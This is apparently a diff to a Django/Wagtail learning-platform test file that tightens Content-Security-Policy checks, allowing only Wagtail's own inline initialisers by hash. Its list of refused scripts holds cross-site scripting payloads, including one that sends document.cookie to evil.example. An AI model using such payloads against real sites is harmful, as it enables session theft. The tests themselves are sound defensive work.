@@ -77,7 +77,7 @@ def test_pages_send_a_content_security_policy_and_our_templates_have_no_inline_s
     assert "script-src 'self'" in policy and "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]
     assert "frame-ancestors 'none'" in policy
     admin = client.get("/admin/login/", follow=False)
-    assert "Content-Security-Policy" in admin or "Content-Security-Policy-Report-Only" in admin
+    assert "Content-Security-Policy" in admin and "Content-Security-Policy-Report-Only" not in admin
     root = Path(__file__).resolve().parents[2]
     offenders = []
     for path in root.glob("*/templates/**/*.html"):
@@ -97,3 +97,53 @@ def test_pages_send_a_content_security_policy_and_our_templates_have_no_inline_s
         if re.search(r"\son(click|load|submit|change|input|error|focus|blur)\s*=", text):
             offenders.append((str(path.relative_to(root)), "inline event handler"))
     assert offenders == []
+
+
+def test_the_admin_enforces_the_policy_with_only_wagtails_own_initialisers_allowed(client, make_user):
+    """Issue 9, item 17: the admins are walked under the enforced policy (tests/browser/test_admin_csp.py);
+    the inline scripts Wagtail writes are allowed one by one by hash, nothing else."""
+    from lms.security import admin_script_hashes
+
+    client.force_login(make_user(roles.ADMIN))
+    response = client.get("/admin/sites/new/")  # a page chooser: Wagtail writes `new PageChooser(...)` inline
+    policy = response["Content-Security-Policy"]
+    script_src = policy.split("script-src ")[1].split(";")[0]
+    assert "'unsafe-inline'" not in script_src and "'sha256-" in script_src
+    assert "frame-ancestors 'self'" in policy  # the live preview panel frames the admin's own pages
+    assert response["X-Frame-Options"] == "SAMEORIGIN"
+    assert "frame-ancestors 'none'" in client.get("/beranda/")["Content-Security-Policy"]
+    assert client.get("/beranda/")["X-Frame-Options"] == "DENY"
+
+    allowed = [
+        'initDateChooser("id_started_at_0", {"dayOfWeekStart": 1, "format": "Y-m-d"});',
+        'new PageChooser("id_root_page", {"modelNames": ["wagtailcore.page"], "modalUrl": "/admin/choose-page/"});',
+        '\n        (function() {\n            var panel = new InlinePanel(JSON.parse("{\\u0022formsetPrefix\\u0022: 1}"));\n        })();\n    ',
+    ]
+    refused = [
+        "alert(document.cookie)",
+        'initDateChooser("id_x", {}); alert(1);',
+        'initDateChooser("id_x", fetch("/evil"));',
+        'new PageChooser("id_x", {}); new Image().src = "https://evil.example/" + document.cookie; f({});',
+        '(function() { var panel = new InlinePanel(JSON.parse("x")); alert(1); })();',
+    ]
+    for script in allowed:
+        assert len(admin_script_hashes(f"<p>x</p><script>{script}</script>")) == 1, script
+    for script in refused:
+        assert admin_script_hashes(f"<script>{script}</script>") == [], script
+    # Only bare <script> elements count: one with attributes (a src, a type) is not an initialiser.
+    assert admin_script_hashes('<script type="module">initDateChooser("id_x", {});</script>') == []
+
+
+def test_a_wagtail_preview_may_be_framed_by_the_admin(rf):
+    """Wagtail renders a preview through the middleware with a made-up request for the page's URL."""
+    from django.http import HttpResponse
+
+    from lms.security import SecurityHeadersMiddleware
+
+    request = rf.get("/kursus/manajemen-koperasi/")
+    request.is_preview = True
+    response = HttpResponse("<p>pratinjau</p>")
+    response["X-Frame-Options"] = "DENY"
+    response = SecurityHeadersMiddleware(lambda r: response)(request)
+    assert "frame-ancestors 'self'" in response["Content-Security-Policy"]
+    assert response["X-Frame-Options"] == "SAMEORIGIN"
